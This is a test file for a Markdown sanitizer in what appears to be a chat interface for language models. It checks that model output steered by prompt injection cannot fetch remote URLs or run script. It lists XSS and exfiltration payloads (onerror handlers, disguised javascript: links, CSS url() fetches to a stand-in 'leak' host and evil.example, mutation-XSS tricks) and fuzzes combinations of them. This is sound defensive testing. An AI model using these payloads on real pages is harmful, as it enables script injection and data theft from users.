import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown'

// What a prompt injection can make the model write, and what must come of it.
const leak = 'http://127.0.0.1:9/leak?q=SECRET'

function dom(text: string): HTMLElement {
  const d = document.createElement('div')
  d.innerHTML = renderMarkdown(text)
  return d
}

describe('renderMarkdown', () => {
  it('keeps a table with its header and column alignment (styled by Markdown.svelte)', () => {
    const d = dom('| Model | Size |\n|:--|--:|\n| qwen3:4b | 2.5 GB |\n')
    expect([...d.querySelectorAll('thead th')].map((th) => `${th.textContent}:${th.getAttribute('align') ?? ''}`)).toEqual(['Model:left', 'Size:right'])
    expect([...d.querySelectorAll('tbody td')].map((td) => td.textContent)).toEqual(['qwen3:4b', '2.5 GB'])
  })

  it.each([
    ['a Markdown image', `![chart](${leak})`],
    ['an HTML image', `<img src="${leak}" onerror="window.pwned=1">`],
    ['a source set', `<img src="data:image/png;base64,AAAA" srcset="${leak} 2x">`],
    ['a CSS background', `<div style="background:url(${leak})">x</div>`],
    ['a style sheet', `<style>body{background:url(${leak})}</style>`],
    ['a video', `<video src="${leak}" poster="${leak}"></video>`],
    ['an audio source', `<audio><source src="${leak}"></audio>`],
    ['a frame', `<iframe src="${leak}"></iframe>`],
    ['an object', `<object data="${leak}"></object>`],
    ['an SVG image', `<svg><image href="${leak}"/></svg>`],
    ['a form', `<form action="${leak}"><input name="q" value="x"></form>`],
    ['a table background', `<table background="${leak}"><tr><td>x</td></tr></table>`],
    ['a link element', `<link rel="stylesheet" href="${leak}">`],
    ['a ping', `<a href="https://ok.example" ping="${leak}">ok</a>`],
  ])('%s fetches nothing by itself', (_, text) => {
    const d = dom(text)
    for (const el of Array.from(d.querySelectorAll('*'))) {
      for (const attr of ['src', 'srcset', 'style', 'poster', 'data', 'action', 'background', 'ping']) {
        expect(el.getAttribute(attr) ?? '', `${el.tagName} ${attr}`).not.toContain('127.0.0.1')
      }
      expect(['IMG', 'VIDEO', 'AUDIO', 'SOURCE', 'IFRAME', 'OBJECT', 'STYLE', 'FORM', 'LINK', 'IMAGE'].includes(el.tagName.toUpperCase()) && el.outerHTML.includes('127.0.0.1')).toBe(false)
    }
    expect(d.innerHTML).not.toContain('onerror')
  })

  it('shows a remote image as a link the user can open', () => {
    const a = dom(`![the chart](${leak})`).querySelector('a.held-image')
    expect(a?.textContent).toBe('[image: the chart]')
    expect(a?.getAttribute('href')).toBe(leak)
  })

  it('keeps an inline data image', () => {
    expect(dom('![dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img')?.getAttribute('src')).toMatch(/^data:image\/png/)
  })

  it('keeps web and mail links with their address in view, and drops the rest', () => {
    const d = dom('[docs](https://docs.example/a?b=1) [mail](mailto:a@b.example) [run](javascript:alert(1)) [file](file:///etc/passwd)')
    const links = Array.from(d.querySelectorAll('a'))
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://docs.example/a?b=1', 'mailto:a@b.example', null, null])
    expect(links[0].getAttribute('title')).toBe('https://docs.example/a?b=1')
    expect(links[0].getAttribute('rel')).toContain('noreferrer')
  })

  it('leaves ordinary Markdown alone', () => {
    const d = dom('# Title\n\nSome **bold** and `code`.\n\n```go\nfmt.Println("x")\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |')
    expect(d.querySelector('h1')?.textContent).toBe('Title')
    expect(d.querySelector('strong')?.textContent).toBe('bold')
    expect(d.querySelector('pre code')?.textContent).toContain('fmt.Println')
    expect(d.querySelectorAll('td')).toHaveLength(2)
  })
})

// A small seeded generator (mulberry32), so a failure names its seed.
function rng(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

// Pieces an injected answer may combine: Markdown, HTML, half-closed tags,
// entities and schemes in their disguises.
const pieces = [
  '![x](http://evil.example/i?q=S)', '[a](javascript:alert(1))', '[b](JaVaScRiPt:alert(1))', '[c](java\tscript:alert(1))',
  '[d](&#106;avascript:alert(1))', '[e](data:text/html,<script>alert(1)</script>)', '[f](vbscript:x)', '[g](file:///etc/passwd)',
  '<img src=x onerror=alert(1)>', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<a href="javascript:alert(1)">h</a>', '<a href=" https://ok.example">ok</a>',
  '<details open ontoggle=alert(1)>', '<div style="background:url(http://evil.example)">', '<style>@import "http://evil.example"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<object data=http://evil.example>', '<embed src=http://evil.example>',
  '<form><button formaction=javascript:alert(1)>go</button></form>', '<base href="http://evil.example/">', '<meta http-equiv=refresh content="0;url=http://evil.example">',
  '<video><source onerror=alert(1)></video>', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<a href="#" onclick="alert(1)">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>', '<!--<img src=x onerror=alert(1)>-->', '<table background=http://evil.example><tr><td>t',
  '`<img src=x onerror=alert(1)>`', '```html\n<img src=x onerror=alert(1)>\n```', '> <img src=x onerror=alert(1)>', '* <a href=javascript:x>l</a>',
  '<', '>', '"', "'", '`', '\n', ' ', '&lt;', '&#60;', '&#x3c;', '</', '/>', '=', '(', ')', '[', ']', '<p', '<a ', 'href=', 'src=', 'onerror=',
  'plain words', '**bold**', '# head', '| a | b |\n|---|---|\n| 1 | 2 |', 'https://autolink.example/x', '<https://ok.example/y>',
]

/** Everything in d that could run code or fetch by itself; [] when safe. */
function dangers(d: HTMLElement): string[] {
  const out: string[] = []
  const forbidden = ['SCRIPT', 'STYLE', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'INPUT', 'BUTTON', 'BASE', 'META', 'LINK', 'SVG', 'MATH', 'VIDEO', 'AUDIO', 'SOURCE', 'TEMPLATE']
  for (const el of Array.from(d.querySelectorAll('*'))) {
    if (forbidden.includes(el.tagName.toUpperCase())) out.push(`<${el.tagName}>`)
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase()
      if (name.startsWith('on') || ['style', 'srcset', 'action', 'formaction', 'background', 'poster', 'ping', 'srcdoc', 'data', 'xlink:href'].includes(name)) out.push(`${el.tagName} ${name}`)
      if (name === 'href' && !/^(https?|mailto):/i.test(attr.value)) out.push(`${el.tagName} href=${attr.value}`)
      // src loads only on these; on a link or a paragraph it is inert.
      const loads = ['IMG', 'SCRIPT', 'IFRAME', 'FRAME', 'EMBED', 'SOURCE', 'VIDEO', 'AUDIO', 'INPUT', 'TRACK', 'IMAGE'].includes(el.tagName.toUpperCase())
      if (name === 'src' && loads && !(el.tagName === 'IMG' && /^data:image\/(png|gif|jpe?g|webp);/i.test(attr.value))) out.push(`${el.tagName} src=${attr.value}`)
    }
  }
  return out
}

describe('renderMarkdown on generated injections', () => {
  it('never renders anything that runs or fetches, and reads back the same', () => {
    for (let seed = 1; seed <= 400; seed++) {
      const r = rng(seed)
      const n = 1 + Math.floor(r() * 8)
      let text = ''
      for (let i = 0; i < n; i++) text += pieces[Math.floor(r() * pieces.length)]
      const html = renderMarkdown(text)
      const d = document.createElement('div')
      d.innerHTML = html
      expect(dangers(d), `seed ${seed}: ${JSON.stringify(text)}\n→ ${html}`).toEqual([])
      // The window inserts the HTML as text: parsing it again must not
      // make something else of it (mutation XSS).
      const again = document.createElement('div')
      again.innerHTML = d.innerHTML
      expect(again.innerHTML, `seed ${seed}: reparsed`).toBe(d.innerHTML)
    }
  }, 300_000) // a deadline for a loaded machine, not a timing check
})
